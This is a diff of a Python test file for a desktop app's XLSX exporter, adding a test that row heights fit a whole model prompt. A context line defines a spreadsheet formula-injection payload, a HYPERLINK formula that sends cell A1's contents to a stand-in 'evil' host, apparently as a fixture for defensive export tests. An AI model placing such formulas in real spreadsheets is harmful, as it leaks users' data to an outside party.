@@ -20,11 +20,13 @@ from PIL import Image
 from desktop_app.adapters.exporters.csv_file import CsvExporter
 from desktop_app.adapters.exporters.html_file import HtmlExporter
 from desktop_app.adapters.exporters.jsonl_file import JsonLinesExporter
+from desktop_app.adapters.exporters.xlsx_about import HIGHEST_ROW
 from desktop_app.adapters.exporters.xlsx_cells import LONGEST_TEXT, shortened
 from desktop_app.adapters.exporters.xlsx_file import XlsxExporter
 from desktop_app.domain.forms.form import Date, Form, FormField, Number, Text, plain_form
+from desktop_app.domain.forms.prompts import form_prompt
 from desktop_app.domain.runs.export_format import ExportOptions, PictureSize
-from tests.fakes.handed_over import VALUES, answered, failed, job, run
+from tests.fakes.handed_over import SURVEY, VALUES, answered, failed, job, run
 
 EMU_PER_PX = 9525
 BAD = '=HYPERLINK("http://evil/?"&A1,"x")'
@@ -189,6 +191,16 @@ def test_what_a_workbook_cannot_hold_is_written_as_text_or_cut_and_told(tmp_path
     assert sheet["D2"].value == "1850-01-02"
     assert len(sheet["E2"].value) == LONGEST_TEXT
     assert [(note.code, dict(note.values)["count"]) for note in notes] == [("texts-cut", 1)]
+
+
+def test_all_of_a_prompt_can_be_seen_in_a_workbook(tmp_path: Path) -> None:
+    path = tmp_path / "a.xlsx"
+    XlsxExporter().write(job(path, answered()))
+    _, sheet = sheets_of(path)
+    heights = {row[0].value: sheet.row_dimensions[row[0].row].height for row in sheet.iter_rows()}
+    assert heights["Temperature"] in (None, 15)
+    assert heights["Prompt"] >= 15 * len(form_prompt(SURVEY, SURVEY.instructions, "qwen2-vl").splitlines())
+    assert max(height or 15 for height in heights.values()) <= HIGHEST_ROW
 
 
 def test_a_workbook_tells_what_was_changed_by_hand(tmp_path: Path) -> None:
